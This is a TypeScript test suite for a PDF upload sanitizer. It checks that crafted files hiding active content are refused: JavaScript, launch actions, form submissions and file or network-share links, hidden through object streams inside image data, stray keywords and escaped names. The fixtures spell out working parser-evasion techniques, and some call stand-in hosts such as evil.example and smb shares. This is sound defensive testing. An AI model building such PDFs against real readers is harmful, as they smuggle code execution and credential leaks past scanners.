import { execFileSync } from "node:child_process";
import { existsSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { deflateSync } from "node:zlib";
import { apiErrorMessages, pdfActiveParts } from "@app/contract";
import { afterAll, describe, expect, it } from "vitest";
import {
  type HiddenPlacement,
  hiddenObjectStreamPdf,
  type LengthSpelling,
} from "../../test/hidden-object-stream-pdf.ts";
import { hasMainThreadCpuClock, mainThreadCpuMs } from "../../test/main-thread-cpu.ts";
import {
  concat,
  deflate,
  firstExtraObject,
  latin1,
  objectStreamContent,
  pagesPdf,
  pngSubPredicted,
  streamBody,
} from "../../test/test-pdfs.ts";
import { MAX_OBJECT_STREAM_NESTING } from "../formats/pdf/pdf-scan.ts";
import { HttpError } from "../lib/http-error.ts";
import { prepareDocument } from "./document-intake.ts";

/*
 * The hostile review's bypass (issue 29, finding 1): active parts in a compressed object stream
 * that stands inside bytes a walk of object syntax skips (an image's raw pixels, JPEG data, a
 * stored deflate block), found by readers through the cross-reference stream. Where poppler is
 * installed (poppler-utils, as in CI), each sample is first shown to be real: the reader finds
 * what is hidden.
 */

const POPPLER = existsSync("/usr/bin/pdfinfo") && existsSync("/usr/bin/pdfdetach");
const folder = mkdtempSync(join(tmpdir(), "hidden-pdf-"));
afterAll(() => rmSync(folder, { recursive: true, force: true }));

/** What poppler's command-line tools print for these bytes (errors dropped). */
function poppler(tool: "pdfinfo" | "pdfdetach", args: string[], bytes: Uint8Array): string {
  const file = join(folder, `${tool}-${Math.random().toString(36).slice(2)}.pdf`);
  writeFileSync(file, bytes);
  return execFileSync(`/usr/bin/${tool}`, [...args, file], {
    encoding: "latin1",
    stdio: ["ignore", "pipe", "ignore"],
  });
}

async function refusal(bytes: Uint8Array) {
  const error = await prepareDocument(bytes).then(
    () => undefined,
    (e: unknown) => e,
  );
  if (!(error instanceof HttpError)) throw new Error(`expected a refusal, got ${error}`);
  return { status: error.status, message: error.message };
}

const placements: HiddenPlacement[] = [
  "image pixels",
  "JPEG data",
  "stored deflate block",
  "an unterminated string",
];

/** What each sample hides lives in object 3: the catalog names it, nothing more. */
const samples = [
  {
    what: "JavaScript",
    part: pdfActiveParts.javascript,
    catalog: "/Names 3 0 R",
    objects: ["<< /JavaScript << /Names [(x) << /S /JavaScript /JS (app.alert\\(1\\)) >>] >> >>"],
    readerSees: (bytes: Uint8Array) => poppler("pdfinfo", ["-js"], bytes).includes("app.alert(1)"),
  },
  {
    what: "JavaScript named with #xx escapes",
    part: pdfActiveParts.javascript,
    catalog: "/Names 3 0 R",
    objects: [
      "<< /J#61vaScript << /Names [(x) << /S /J#61vaScript /#4A#53 (app.alert\\(1\\)) >>] >> >>",
    ],
    readerSees: (bytes: Uint8Array) => poppler("pdfinfo", ["-js"], bytes).includes("app.alert(1)"),
  },
  {
    what: "a launch action",
    part: pdfActiveParts.launch,
    catalog: "/OpenAction 3 0 R",
    objects: ["<< /S /Launch /F (calc.exe) >>"],
    // The catalog lives only in the hidden object stream: a page count means it was resolved.
    readerSees: (bytes: Uint8Array) => /Pages:\s+1\n/.test(poppler("pdfinfo", [], bytes)),
  },
  {
    what: "an embedded file",
    part: pdfActiveParts.embeddedFile,
    catalog: "/Names 3 0 R",
    objects: [
      "<< /EmbeddedFiles << /Names [(a.txt) << /Type /Filespec /F (a.txt) /EF << /F 4 0 R >> >>] >> >>",
    ],
    readerSees: (bytes: Uint8Array) =>
      poppler("pdfdetach", ["-list"], bytes).includes("1 embedded files"),
  },
  {
    what: "an XFA form",
    part: pdfActiveParts.xfa,
    catalog: "/AcroForm 3 0 R",
    objects: ["<< /Fields [] /XFA [(template) (x)] >>"],
    readerSees: (bytes: Uint8Array) => /Form:\s+XFA/.test(poppler("pdfinfo", [], bytes)),
  },
  ...[
    [
      "a link to a file on a network share",
      "otherFile",
      "/GoToR /F (\\\\\\\\server\\\\a.pdf) /D [0 /Fit]",
    ],
    ["a form that sends what is typed", "submitForm", "/SubmitForm /F (https://evil.example/x)"],
    ["a data import", "importData", "/ImportData /F (\\\\\\\\server\\\\data.fdf)"],
    [
      "a link to a local file, in hex",
      "otherLink",
      "/URI /URI <66696C653A2F2F2F6574632F706173737764>",
    ],
    ["a link to a network share", "otherLink", "/URI /URI (\\\\\\\\server\\\\share)"],
    ["a rendition action", "media", "/Rendition /OP 0 /AN 3 0 R"],
    ["a thread action into another file", "otherFile", "/Thread /F (\\\\\\\\server\\\\a.pdf) /D 0"],
  ].map(([what, part, action]) => ({
    what: what!,
    part: pdfActiveParts[part as keyof typeof pdfActiveParts],
    catalog: "/OpenAction 3 0 R",
    objects: [`<< /S ${action} >>`],
    // As for the launch action: a page count means the hidden catalog was resolved.
    readerSees: (bytes: Uint8Array) => /Pages:\s+1\n/.test(poppler("pdfinfo", [], bytes)),
  })),
];

describe("prepareDocument: objects hidden where only the cross-reference points", () => {
  for (const sample of samples) {
    for (const placement of placements) {
      it(`refuses ${sample.what} in an object stream hidden in ${placement}`, async () => {
        const bytes = hiddenObjectStreamPdf(sample.catalog, sample.objects, placement);
        if (POPPLER) expect(sample.readerSees(bytes)).toBe(true);
        expect(await refusal(bytes)).toEqual({
          status: 415,
          message: apiErrorMessages.pdfActive(sample.part),
        });
      });
    }
  }

  // A reader takes each object of an object stream where the stream's header says it starts,
  // also inside what a walk from the stream's start reads as a string or a comment.
  for (const sample of samples) {
    for (const layout of ["inside a string", "inside a comment"] as const) {
      it(`refuses ${sample.what} standing ${layout} of an object stream`, async () => {
        const bytes = hiddenObjectStreamPdf(sample.catalog, sample.objects, "image pixels", {
          layout,
        });
        if (POPPLER) expect(sample.readerSees(bytes)).toBe(true);
        expect(await refusal(bytes)).toEqual({
          status: 415,
          message: apiErrorMessages.pdfActive(sample.part),
        });
      });
    }
  }

  // A reader's number ends at its first byte that cannot continue it: `10 0obj` is `10 0 obj`.
  const [javascript] = samples;
  for (const objectHeader of ["10 0obj", "10 0%header\nobj", "10\r\n0\r\nobj"]) {
    for (const placement of placements) {
      it(`refuses JavaScript in an object stream headed ${JSON.stringify(objectHeader)} in ${placement}`, async () => {
        const bytes = hiddenObjectStreamPdf(javascript!.catalog, javascript!.objects, placement, {
          objectHeader,
        });
        if (POPPLER) expect(javascript!.readerSees(bytes)).toBe(true);
        expect(await refusal(bytes)).toEqual({
          status: 415,
          message: apiErrorMessages.pdfActive(javascript!.part),
        });
      });
    }
  }

  // Where /Length is not a number followed by `endstream`, a reader may read an object stream's
  // compressed data past the first `endstream` it holds.
  const lengthSpellings: LengthSpelling[] = [
    "a reference",
    "a reference without spaces",
    "a number that falls short",
  ];
  for (const as of lengthSpellings) {
    for (const placement of ["plain sight", "image pixels"] as const) {
      it(`refuses an object stream in ${placement} whose compressed data (JavaScript) runs on past an endstream, its /Length ${as}`, async () => {
        const bytes = hiddenObjectStreamPdf(javascript!.catalog, javascript!.objects, placement, {
          lengthSpelled: { as, endstreamInData: true },
        });
        if (POPPLER) expect(javascript!.readerSees(bytes)).toBe(true);
        expect(await refusal(bytes)).toEqual({
          status: 415,
          message: apiErrorMessages.pdfUnreadable,
        });
      });
    }
  }

  // pdf.js takes a stream inside an object stream, and so an object stream inside another
  // (checked by hand with pdfjs-dist 4: it runs the JavaScript of each sample below that stands
  // in plain sight); poppler does not, so no reader here can show them.
  for (const nesting of [2, MAX_OBJECT_STREAM_NESTING]) {
    for (const layout of ["one after another", "inside a comment"] as const) {
      for (const placement of ["plain sight", "image pixels"] as const) {
        it(`refuses JavaScript in an object stream ${nesting} deep, standing ${layout}, in ${placement}`, async () => {
          const bytes = hiddenObjectStreamPdf(javascript!.catalog, javascript!.objects, placement, {
            nesting,
            layout,
          });
          expect(await refusal(bytes)).toEqual({
            status: 415,
            message: apiErrorMessages.pdfActive(javascript!.part),
          });
        });
      }
    }
  }

  it("refuses object streams nested deeper than it reads them", async () => {
    const bytes = hiddenObjectStreamPdf("", [], "plain sight", {
      nesting: MAX_OBJECT_STREAM_NESTING + 1,
    });
    expect(await refusal(bytes)).toEqual({ status: 415, message: apiErrorMessages.pdfTooDeep });
  });

  it("still takes an object stream whose /Length is a reference, as many writers spell it", async () => {
    const bytes = hiddenObjectStreamPdf("", [], "plain sight", {
      lengthSpelled: { as: "a reference", endstreamInData: false },
    });
    if (POPPLER) {
      expect(poppler("pdfinfo", [], bytes)).toMatch(/Pages:\s+1\n/);
      expect(poppler("pdfinfo", ["-js"], bytes)).not.toMatch(/Name Dictionary/);
    }
    expect((await prepareDocument(bytes)).pageCount).toBe(1);
  });

  it("refuses, in linear time, a file of nothing but stray obj keywords", async () => {
    const flood = Buffer.alloc(19 * 1024 * 1024, " obj<</Length 99999999>>stream\n");
    const started = performance.now();
    const bytes = pagesPdf(1, { objects: [streamBody("/Subtype /Image", flood)] });
    expect(await refusal(bytes)).toEqual({ status: 415, message: apiErrorMessages.pdfUnreadable });
    expect(performance.now() - started).toBeLessThan(5000);
  });

  it("still takes an honest image whose pixels happen to spell obj and stream", async () => {
    const pixels = Buffer.alloc(64 * 64 * 3, 0x80);
    pixels.write(" 7 0 obj << /Length 3 >> stream\nabc\nendstream endobj obj", 100, "latin1");
    const bytes = pagesPdf(1, {
      objects: [
        streamBody(
          "/Type /XObject /Subtype /Image /Width 64 /Height 64 /ColorSpace /DeviceRGB /BitsPerComponent 8",
          pixels,
        ),
      ],
    });
    expect((await prepareDocument(bytes)).pageCount).toBe(1);
  });

  // A hidden object's walk reads a stream's data past the line end after `stream`, as readers
  // do; what stands before that end is no sign of a crafted file there (seventh review).
  it("still takes page text that quotes an object and its stream keyword", async () => {
    const text = "BT /F1 12 Tf 20 100 Td (4 0 obj << /Length 44 >> stream) ' ET";
    const bytes = pagesPdf(1, { objects: [streamBody("", text)] });
    expect((await prepareDocument(bytes)).pageCount).toBe(1);
  });

  // qpdf's QDF form keeps object streams as they are and notes each object in a comment:
  // "object" is no `obj` keyword to any reader (sixth review: 40 pages were refused).
  it("takes an object stream stored as it is whose comments say object, as qpdf writes it", async () => {
    const pages: [number, string][] = Array.from({ length: 40 }, (_, i) => [
      50 + i,
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 3 0 R /Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://example.com/${i}) >> >>] >>`,
    ]);
    const { content, dict } = objectStreamContent(pages, {
      between: "\n%% Object stream: object 9, index 1; original object ID: 12\n",
    });
    const bytes = pagesPdf(1, {
      objects: [streamBody(dict.replace(" /Filter /FlateDecode", ""), content)],
    });
    expect((await prepareDocument(bytes)).pageCount).toBe(41);
  });
});

/*
 * Third look: where a dictionary holds a keyword, `{` or `}`, readers take it as a value, so a
 * walk that skipped it paired the keys after it with other values than readers do. Poppler
 * shows the keywords' samples; it calls a brace an illegal character, while pdf.js takes it as
 * a value as it takes a keyword.
 */
describe("prepareDocument: values a reader takes where the walk saw none", () => {
  const keywords = ["endobj", "obj", "stream", "endstream"];
  const [javascript] = samples;
  const link = apiErrorMessages.pdfActive(pdfActiveParts.otherLink);
  const script = apiErrorMessages.pdfActive(javascript!.part);
  const unreadable = apiErrorMessages.pdfUnreadable;
  // Paired as readers pair them, the script shows; after `obj` or `endobj` readers parse on,
  // where the walk starts the next object: the document counts as unreadable. A link's target
  // is judged from the bytes after `/URI`, whatever pairs the keys (fourth look, below).
  const strays: [stray: string, streamRefusal: string][] = [
    ["{", script],
    ["}", script],
    ["endobj", unreadable],
    ["obj", unreadable],
    ["stream", script],
    ["endstream", script],
  ];
  for (const [stray, streamRefusal] of strays) {
    const readerShows = POPPLER && keywords.includes(stray);

    it(`refuses a link whose file target stands after a stray ${stray} in its action`, async () => {
      const bytes = pagesPdf(1, {
        pageExtra: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /URI /X ${stray} /URI (file:///C:/x) >> >>]`,
      });
      if (readerShows) expect(poppler("pdfinfo", ["-url"], bytes)).toContain("file:///C:/x");
      expect(await refusal(bytes)).toEqual({ status: 415, message: link });
    });

    it(`refuses an object stream whose /First and /Filter stand after a stray ${stray}`, async () => {
      const bytes = hiddenObjectStreamPdf(javascript!.catalog, javascript!.objects, "plain sight", {
        dictionary: (entries) =>
          entries
            .replace("/Type /ObjStm ", "")
            .replace("/First", `/A ${stray} /First`)
            .replace("/Filter", `/B ${stray} /Filter`),
      });
      if (readerShows) expect(javascript!.readerSees(bytes)).toBe(true);
      expect(await refusal(bytes)).toEqual({ status: 415, message: streamRefusal });
    });
  }

  // A hidden object's walk stopped at `obj` or `endobj` also inside a dictionary, where readers
  // take either as a value and read on: the hidden object stream was never inflated.
  for (const stray of ["endobj", "obj"]) {
    for (const placement of placements) {
      it(`refuses an object stream hidden in ${placement} whose /First and /Filter stand after a stray ${stray}`, async () => {
        const bytes = hiddenObjectStreamPdf(javascript!.catalog, javascript!.objects, placement, {
          dictionary: (entries) =>
            entries.replace("/Type /ObjStm ", "").replace("/First", `/A ${stray} /First`),
        });
        if (POPPLER) expect(javascript!.readerSees(bytes)).toBe(true);
        expect(await refusal(bytes)).toEqual({ status: 415, message: script });
      });
    }
  }

  // Readers (poppler, pdf.js) take a dictionary followed by `stream` as a stream also inside
  // another dictionary, and skip its data: the keys after it are the outer dictionary's.
  for (const placement of [...placements, "plain sight"] as const) {
    it(`refuses an object stream in ${placement} whose /First and /Filter stand after a stream in its dictionary`, async () => {
      const bytes = hiddenObjectStreamPdf(javascript!.catalog, javascript!.objects, placement, {
        dictionary: (entries) =>
          entries.replace("/First", "/A << /Length 1 >> stream\n(\nendstream /First"),
      });
      if (POPPLER) expect(javascript!.readerSees(bytes)).toBe(true);
      expect(await refusal(bytes)).toEqual({ status: 415, message: script });
    });
  }

  // Readers skip to the next line after `stream`: data standing on its line is never read. A
  // zlib header may be `(` (a 1 KB window), so the walk read an honest-looking object stream
  // there, and readers the one on the next line (sixth review).
  it("refuses an object stream whose data starts on the line of its stream keyword", async () => {
    const sameLine = (content: string) => {
      // The same header, its objects blank.
      const objects = content.indexOf("<<");
      const harmless = content.slice(0, objects) + " ".repeat(content.length - objects);
      for (let pad = 0; ; pad++) {
        const decoy = new Uint8Array(deflateSync(harmless + " ".repeat(pad), { windowBits: 10 }));
        if (!decoy.includes(0x0a) && !decoy.includes(0x0d)) {
          return concat([decoy, latin1("\n"), deflate(content)]);
        }
      }
    };
    const bytes = hiddenObjectStreamPdf(javascript!.catalog, javascript!.objects, "plain sight", {
      dictionary: (entries) => entries,
      encoded: sameLine,
      afterStream: "",
    });
    if (POPPLER) expect(javascript!.readerSees(bytes)).toBe(true);
    expect(await refusal(bytes)).toEqual({ status: 415, message: script });
  });

  it.each([")", ">", "]"])(
    "refuses a stray %s inside a dictionary, where readers may pair the keys after it otherwise",
    async (stray) => {
      const bytes = pagesPdf(1, { catalog: `/X ${stray} /PageMode /UseNone` });
      expect(await refusal(bytes)).toEqual({ status: 415, message: unreadable });
    },
  );

  // Where a key stands, readers skip an opening `[` (or `<<`) alone and read on: the keys inside
  // are the dictionary's own, and a `]` after them is skipped too.
  it("refuses an object stream whose /First and /Filter stand inside an array opened where a key stands", async () => {
    const bytes = hiddenObjectStreamPdf(javascript!.catalog, javascript!.objects, "plain sight", {
      dictionary: (entries) => `${entries.replace("/Type /ObjStm ", "[ ")} ]`,
    });
    if (POPPLER) expect(javascript!.readerSees(bytes)).toBe(true);
    expect(await refusal(bytes)).toEqual({ status: 415, message: script });
  });

  it.each([
    ["an array opened where a key stands", "/X 1 [ /PageMode /UseNone ]"],
    ["a dictionary opened where a key stands", "/X 1 << /PageMode /UseNone"],
    ["a >> where a value stands", "/X >> /PageMode /UseNone"],
  ])(
    "refuses a dictionary with %s, where readers pair the keys after it otherwise",
    async (_, entries) => {
      const bytes = pagesPdf(1, { catalog: entries });
      expect(await refusal(bytes)).toEqual({ status: 415, message: unreadable });
    },
  );
});

/*
 * Fourth look: a link's target is judged from the bytes that follow `/URI`, wherever the name
 * search looks, so no pairing of keys and values (the walk's or a reader's) decides it. Readers
 * take a value after a key whatever it is (`]`, `>>`, `endobj`), and skip a container opening
 * where a key stands, so the keys after it pair otherwise than a walk that reads the container.
 */
describe("prepareDocument: link targets whatever pairs the keys around them", () => {
  const target = "file:///etc/passwd";
  const links: [what: string, action: string][] = [
    ["after a ] a reader takes as a value", `<< /S /URI /X ] /URI (${target}) >>`],
    ["after >> a reader takes as a value", `<< /S /URI /X >> /URI (${target}) >>`],
    ["inside an array opened where a key stands", `<< /S /URI [ /URI (${target}) ] >>`],
    ["inside a dictionary opened where a key stands", `<< /S /URI << /URI (${target}) >>`],
    ["in hex, after a ]", "<< /S /URI /X ] /URI <66696C653A2F2F2F6574632F706173737764> >>"],
    ["with an octal escape, after a ]", "<< /S /URI /X ] /URI (\\146ile:///etc/passwd) >>"],
    ["its key with #xx escapes, after a ]", `<< /S /URI /X ] /U#52I (${target}) >>`],
  ];
  const annotation = (action: string) =>
    `<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A ${action} >>`;
  const link = { status: 415, message: apiErrorMessages.pdfActive(pdfActiveParts.otherLink) };
  for (const [what, action] of links) {
    for (const placement of [...placements, "plain sight"] as const) {
      it(`refuses a file link ${what}, in a link object hidden in ${placement}`, async () => {
        const bytes = hiddenObjectStreamPdf("", [], placement, {
          plainObjects: [annotation(action)],
          page: "/Annots [11 0 R] ",
        });
        if (POPPLER) expect(poppler("pdfinfo", ["-url"], bytes)).toContain(target);
        expect(await refusal(bytes)).toEqual(link);
      });
    }
  }

  it("refuses a file link after >> where a value is due, in an action object of its own", async () => {
    const action = firstExtraObject(1);
    const bytes = pagesPdf(1, {
      pageExtra: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A ${action} 0 R >>]`,
      objects: [`<< /S /URI /X >> /URI (${target}) >>`],
    });
    if (POPPLER) expect(poppler("pdfinfo", ["-url"], bytes)).toContain(target);
    expect(await refusal(bytes)).toEqual(link);
  });

  it("still takes a web link hidden the same way (nothing there acts)", async () => {
    const bytes = hiddenObjectStreamPdf("", [], "image pixels", {
      plainObjects: [annotation("<< /S /URI /X ] /URI (https://example.com/) >>")],
      page: "/Annots [11 0 R] ",
    });
    if (POPPLER) expect(poppler("pdfinfo", ["-url"], bytes)).toContain("https://example.com/");
    expect((await prepareDocument(bytes)).pageCount).toBe(1);
  });
});

/*
 * Fourth look: a thread action (`/S /Thread`, or an /S a reader resolves, `/S 12 0 R`) is judged
 * from the bytes of its own dictionary, wherever the name search finds it, so no pairing of the
 * walk decides whether a file (/F) is among its keys. A hidden object's walk stops at `obj` or
 * `endobj`, where readers take either as a value and read on (poppler and pdf.js open the link
 * written so, above); no reader here shows thread actions.
 */
describe("prepareDocument: thread actions whatever pairs the keys around them", () => {
  const share = "(\\\\\\\\server\\\\a.pdf)";
  const actions: [what: string, action: string, kind?: string][] = [
    ["after endobj", `<< /S /Thread /D 0 /X endobj /F ${share} >>`],
    ["after obj", `<< /S /Thread /D 0 /X obj /F ${share} >>`],
    ["named with #xx escapes, after endobj", `<< /S /Thr#65ad /D 0 /X endobj /F ${share} >>`],
    ["before endobj, its kind after", `<< /F ${share} /X endobj /D 0 /S /Thread >>`],
    ["its kind a reference, after endobj", `<< /S 12 0 R /D 0 /X endobj /F ${share} >>`, "/Thread"],
  ];
  const otherFile = { status: 415, message: apiErrorMessages.pdfActive(pdfActiveParts.otherFile) };
  for (const [what, action, kind] of actions) {
    for (const placement of [...placements, "plain sight"] as const) {
      it(`refuses a thread action into another file ${what}, hidden in ${placement}`, async () => {
        const bytes = hiddenObjectStreamPdf("/OpenAction 11 0 R", [], placement, {
          plainObjects: kind ? [action, kind] : [action],
        });
        if (POPPLER) expect(poppler("pdfinfo", [], bytes)).toMatch(/Pages:\s+1\n/);
        expect(await refusal(bytes)).toEqual(otherFile);
      });
    }
  }

  it("refuses, in linear time, a file of nothing but thread actions", async () => {
    const flood = Buffer.alloc(19 * 1024 * 1024, `<< ${"/S /Thread ".repeat(400)}`);
    const bytes = pagesPdf(1, { objects: [streamBody("", flood)] });
    // The check's own CPU, not the clock: on a busy machine the clock took 5.4 s once.
    const clock = hasMainThreadCpuClock ? mainThreadCpuMs : () => performance.now();
    const started = clock();
    expect(await refusal(bytes)).toEqual({ status: 415, message: apiErrorMessages.pdfUnreadable });
    expect(clock() - started).toBeLessThan(5000);
  });
});

// A stream's own /F says its data lies in another file; no reader here fetches it.
describe("prepareDocument: stream data in another file, hidden", () => {
  const image =
    "<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /F (\\\\\\\\server\\\\d.bin) /Length 0 >>\nstream\n\nendstream";
  for (const placement of [...placements, "plain sight"] as const) {
    it(`refuses an image whose data is read from another file, hidden in ${placement}`, async () => {
      const bytes = hiddenObjectStreamPdf("", [], placement, {
        plainObjects: [image],
        page: "/Resources << /XObject << /Im0 11 0 R >> >> ",
      });
      if (POPPLER) expect(poppler("pdfinfo", [], bytes)).toMatch(/Pages:\s+1\n/);
      expect(await refusal(bytes)).toEqual({
        status: 415,
        message: apiErrorMessages.pdfActive(pdfActiveParts.externalData),
      });
    });
  }
});

/*
 * Fifth look: names and keys that readers read apart. poppler ends a name at a decoded NUL
 * (`/Filter#00x` is /Filter, `/JS#00` is /JS), and after `#` and one hex digit takes the next
 * byte whatever it is (`/X#4(` swallows a `(` that pdf.js and the walk read as a string); in a
 * dictionary of 32 entries or more it finds a repeated key by an unstable sort, so either value
 * may win; poppler and pdf.js read /DP as /DecodeParms.
 */
describe("prepareDocument: names and keys readers read apart", () => {
  const [javascript] = samples;
  const script = apiErrorMessages.pdfActive(javascript!.part);
  const unreadable = apiErrorMessages.pdfUnreadable;
  const junkKeys = (from: number, to: number) =>
    Array.from({ length: to - from }, (_, i) => `/K${from + i} 0`).join(" ");
  type Respelling = {
    dictionary: (entries: string) => string;
    encoded?: (content: string) => Uint8Array;
  };
  const respellings: [what: string, respelling: Respelling, plain: string, hidden: string][] = [
    [
      "its /Filter spelled /Filter#00x",
      { dictionary: (entries) => entries.replace("/Filter", "/Filter#00x") },
      script,
      script,
    ],
    [
      "a name /X#4( before its entries",
      { dictionary: (entries) => `/X#4( 1 ${entries}` },
      unreadable,
      script,
    ],
    [
      "a name /X#4( among its entries",
      { dictionary: (entries) => entries.replace("/Type /ObjStm ", "/X#4( 1 ") },
      unreadable,
      script,
    ],
    [
      "its predictor under /DP",
      {
        dictionary: (entries) => `${entries} /DP << /Predictor 12 /Columns 8 >>`,
        encoded: (content) => deflate(pngSubPredicted(content, 8)),
      },
      unreadable,
      unreadable,
    ],
  ];
  for (const [what, respelling, plain, hidden] of respellings) {
    for (const placement of [...placements, "plain sight"] as const) {
      it(`refuses an object stream in ${placement} with ${what}`, async () => {
        const bytes = hiddenObjectStreamPdf(
          javascript!.catalog,
          javascript!.objects,
          placement,
          respelling,
        );
        if (POPPLER) expect(javascript!.readerSees(bytes)).toBe(true);
        expect(await refusal(bytes)).toEqual({
          status: 415,
          message: placement === "plain sight" ? plain : hidden,
        });
      });
    }
  }

  // Which of two /Filter entries poppler takes depends on where they stand among the others.
  for (const placement of [...placements, "plain sight"] as const) {
    it(`refuses an object stream in ${placement} whose dictionary of 37 entries repeats /Filter`, async () => {
      const arrangements = Array.from({ length: 32 }, (_, at) =>
        hiddenObjectStreamPdf(javascript!.catalog, javascript!.objects, placement, {
          dictionary: (entries) =>
            `${entries.replace("/Filter /FlateDecode", `${junkKeys(0, at)} /Filter /FlateDecode ${junkKeys(at, 31)}`)} /Filter []`,
        }),
      );
      // poppler gives up on some arrangements (pdfinfo fails): the others are enough.
      const readerSees = (bytes: Uint8Array) => {
        try {
          return javascript!.readerSees(bytes);
        } catch {
          return false;
        }
      };
      if (POPPLER) expect(arrangements.some(readerSees)).toBe(true);
      for (const bytes of arrangements) {
        expect(await refusal(bytes)).toEqual({ status: 415, message: unreadable });
      }
    });
  }

  const annotation = (action: string) =>
    `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A ${action} >>]`;
  it.each([
    [
      "JavaScript named /JavaScript#00 and /JS#00",
      { catalog: "/Names << /JavaScript#00 << /Names [(x) 9 0 R] >> >>" },
      "<< /S /JavaScript#00 /JS#00 (app.alert\\(1\\)) >>",
      "javascript",
      (bytes: Uint8Array) => poppler("pdfinfo", ["-js"], bytes).includes("app.alert(1)"),
    ],
    [
      "a file link under /URI#00",
      { pageExtra: annotation("<< /S /URI /URI#00 (file:///etc/passwd) >>") },
      "null",
      "otherLink",
      (bytes: Uint8Array) => poppler("pdfinfo", ["-url"], bytes).includes("file:///etc/passwd"),
    ],
    [
      "a share link whose kind and key are /URI#00",
      { pageExtra: annotation("<< /S /URI#00 /URI#00 (smb://evil.example/share) >>") },
      "null",
      "otherLink",
      (bytes: Uint8Array) => poppler("pdfinfo", ["-url"], bytes).includes("smb://evil.example"),
    ],
    [
      // poppler reads the stray byte as a 0 digit and pairs the rest anew (pdf.js skips it):
      // a target with no scheme, which it makes relative to the catalog's base.
      "a web link in hex holding a stray byte, under a file base",
      {
        catalog: "/URI << /Base (file:///etc/) >>",
        pageExtra: annotation("<< /S /URI /URI <68x74747073 3A2F2F6578616D706C652E636F6D> >>"),
      },
      "null",
      "otherLink",
      (bytes: Uint8Array) => poppler("pdfinfo", ["-url"], bytes).includes("file:///etc/"),
    ],
    [
      "a web link in hex holding a stray byte",
      { pageExtra: annotation("<< /S /URI /URI <68x74747073 3A2F2F6578616D706C652E636F6D> >>") },
      "null",
      "otherLink",
      (bytes: Uint8Array) => !poppler("pdfinfo", ["-url"], bytes).includes("https://example.com"),
    ],
    [
      "a file base for links that have no scheme",
      {
        catalog: "/URI << /Base (file:///etc/) >>",
        pageExtra: annotation("<< /S /URI /URI (https://example.com/) >>"),
      },
      "null",
      "otherLink",
      undefined,
    ],
    [
      "a launch action /Launch#00",
      { pageExtra: annotation("<< /S /Launch#00 /F (calc.exe) >>") },
      "null",
      "launch",
      undefined,
    ],
    [
      "a link to another file /GoToR#00",
      { pageExtra: annotation("<< /S /GoToR#00 /F (\\\\\\\\server\\\\x.pdf) /D [0 /Fit] >>") },
      "null",
      "otherFile",
      undefined,
    ],
  ] as const)("refuses %s, as poppler reads it", async (_what, extra, object, part, readerSees) => {
    const first = firstExtraObject(1);
    const bytes = pagesPdf(1, {
      ...extra,
      catalog: "catalog" in extra ? extra.catalog.replace("9 0 R", `${first} 0 R`) : "",
      objects: [object],
    });
    if (POPPLER && readerSees) expect(readerSees(bytes)).toBe(true);
    expect(await refusal(bytes)).toEqual({
      status: 415,
      message: apiErrorMessages.pdfActive(pdfActiveParts[part]),
    });
  });

  it("refuses /JS#00 in a comment, where a reader may start an object", async () => {
    const bytes = pagesPdf(1, { catalog: "% 4 0 obj << /JS#00 (app.alert\\(1\\)) >> endobj\n" });
    expect(await refusal(bytes)).toEqual({ status: 415, message: script });
  });

  it.each([
    ["a name with #00 in it", "/Page#00Mode /UseNone"],
    ["a name with # and one digit before a space", "/X#4 1 /PageMode /UseNone"],
    ["a name with # and one digit before a string", "/X#4(a) /PageMode /UseNone"],
    ["a name with # before a byte that is no digit", "/X#G0 1 /PageMode /UseNone"],
    ["a key twice", "/PageMode /UseNone /Type /Catalog"],
  ])("refuses a dictionary with %s, which readers read apart", async (_what, entries) => {
    const bytes = pagesPdf(1, { catalog: entries });
    expect(await refusal(bytes)).toEqual({ status: 415, message: unreadable });
  });
});
